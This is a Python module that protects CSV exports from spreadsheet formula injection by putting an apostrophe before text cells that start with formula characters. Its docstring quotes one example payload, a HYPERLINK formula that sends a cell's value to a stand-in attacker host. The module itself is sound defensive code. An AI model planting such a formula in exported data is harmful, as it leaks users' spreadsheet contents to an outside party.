"""Cells a spreadsheet shows as text, never runs as a formula.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed is
read as a formula by Excel, LibreOffice and Google Sheets when a CSV is opened
(``=HYPERLINK("https://evil.example/?"&A2, "click")``). Every CSV the product writes (Datasette's
exports, the search export, the contacts of an action) passes its text cells through
:func:`neutralise`: such a cell gets a leading apostrophe, which spreadsheets show as text (the
OWASP advice). Plain numbers (``-0.42``, ``+3``) and values that are not text are left alone.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet will show it as text: an apostrophe before a formula's first
    character; a number written as text, text that starts otherwise, and non-text unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.fullmatch(value):
        return "'" + value
    return value
